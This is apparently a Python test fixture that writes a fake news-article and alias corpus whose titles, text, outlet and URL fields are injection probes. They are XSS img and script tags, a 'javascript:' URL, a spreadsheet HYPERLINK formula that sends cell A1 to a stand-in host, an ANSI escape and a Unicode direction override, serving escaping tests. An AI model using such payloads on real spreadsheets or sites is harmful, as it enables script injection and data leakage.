"""A corpus whose every word wants to be run: by a browser, a spreadsheet, a terminal."""

from __future__ import annotations

import csv

MARKUP = "<img src=x onerror=window.hacked=1>"
SCRIPT = "<script>window.hacked = 1</script>"
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
COLOUR = "\x1b[31m"
TEXT = f"""Ardan Corvell said {SCRIPT} on Friday that {MARKUP} was good. {FORMULA}

"{SCRIPT}We have been robbed," Ardan Corvell told {COLOUR}the crowd\u202e on 3 June 2014.
"""


def write(folder):
    """Write the corpus: two articles of an outlet, and a name, that are markup."""
    folder.mkdir(parents=True)
    with (folder / "articles.csv").open("w", newline="", encoding="utf-8") as file:
        rows = csv.writer(file)
        rows.writerow(["title", "text", "date", "outlet", "url"])
        for day in (2, 3):
            page = "javascript:window.hacked=1"
            rows.writerow([f"{FORMULA} {MARKUP}", TEXT, f"2014-06-{day:02}", MARKUP, page])
    with (folder / "aliases.csv").open("w", newline="", encoding="utf-8") as file:
        rows = csv.writer(file)
        rows.writerow(["surface", "entity", "label", "from", "to", "note"])
        rows.writerow(["Ardan Corvell", f"{MARKUP} Corvell", "PERSON", "", "", ""])
